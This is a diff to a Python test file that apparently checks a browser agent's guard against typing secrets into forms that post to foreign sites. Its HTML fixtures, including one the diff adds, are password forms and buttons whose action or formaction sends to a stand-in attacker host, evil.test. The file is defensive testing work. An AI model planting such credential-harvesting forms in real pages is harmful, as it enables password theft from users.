@@ -214,6 +214,8 @@ OTHERS = {
     "<button formaction='//evil.test/take'>Go</button></form>",
     "a button outside": "<form id=f><input aria-label=Password></form>"
     "<button form=f formaction='https://evil.test/'>Go</button>",
+    "a picture for another site": "<form><input aria-label=Password>"
+    "<input type=image alt=Go src=x.png formaction='//evil.test/take'></form>",
     "hidden properties": "<form action='https://evil.test/'><input name=action><input name=elements>"
     "<input aria-label=Password></form>",
 }
@@ -226,12 +228,13 @@ async def test_a_secret_goes_into_no_form_that_sends_it_to_a_site_it_is_not_mean
     def fill(text, host):
         if host != "shop.test":
             raise ActionFailed(f"not on {host}")
-        return "hunter2hunter2"
+        return text.replace("{{secret:pw}}", "hunter2hunter2")
 
     with pytest.raises(ActionFailed, match=r"not on evil\.test"):
         await session.act(Type(target=Target(label="Password"), text="{{secret:pw}}"), fill)
     await session.act(Type(target=Target(label="Password"), text="no secret"), fill)
-    assert (await session.observe()).elements[-1].value != "••••••"
+    (field,) = [each for each in (await session.observe()).elements if each.name == "Password"]
+    assert field.value == "no secret"
 
 
 SEARCHES = [
